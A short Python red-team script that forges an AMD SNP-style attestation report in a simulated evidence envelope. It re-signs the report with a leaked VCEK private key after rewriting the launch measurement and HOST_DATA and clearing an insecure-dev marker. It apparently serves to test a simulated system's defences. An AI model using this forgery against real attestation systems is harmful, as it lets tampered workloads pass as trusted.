#!/usr/bin/python3
"""forge_report.py KEY.pem IN.json OUT.json MEASUREMENT_HEX HOST_DATA_HEX

The attacker's tool of red-team attack 1: re-sign a sim evidence envelope's
SNP-layout report with a platform VCEK private key the attacker managed to
read, claiming a launch measurement and HOST_DATA of its choosing (and no
INSECURE-DEV mark). Succeeds only if the key file was readable."""
import base64, json, sys
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

key_path, src, dst, meas, hd = sys.argv[1:6]
key = serialization.load_pem_private_key(open(key_path, "rb").read(), password=None)
env = json.load(open(src))
b64 = env["report"]
rep = bytearray(base64.urlsafe_b64decode(b64.replace("+", "-").replace("/", "_") + "=" * (-len(b64) % 4)))
rep[0x10:0x20] = bytes(16)                     # FAMILY_ID: no INSECURE-DEV mark
rep[0x90:0xC0] = bytes.fromhex(meas)           # MEASUREMENT
rep[0xC0:0xE0] = bytes.fromhex(hd)             # HOST_DATA
der = key.sign(bytes(rep[:0x2A0]), ec.ECDSA(hashes.SHA384()))
r, s = decode_dss_signature(der)
rep[0x2A0:0x2E8] = r.to_bytes(72, "little")
rep[0x2E8:0x330] = s.to_bytes(72, "little")
env["report"] = base64.b64encode(bytes(rep)).decode()
json.dump(env, open(dst, "w"))
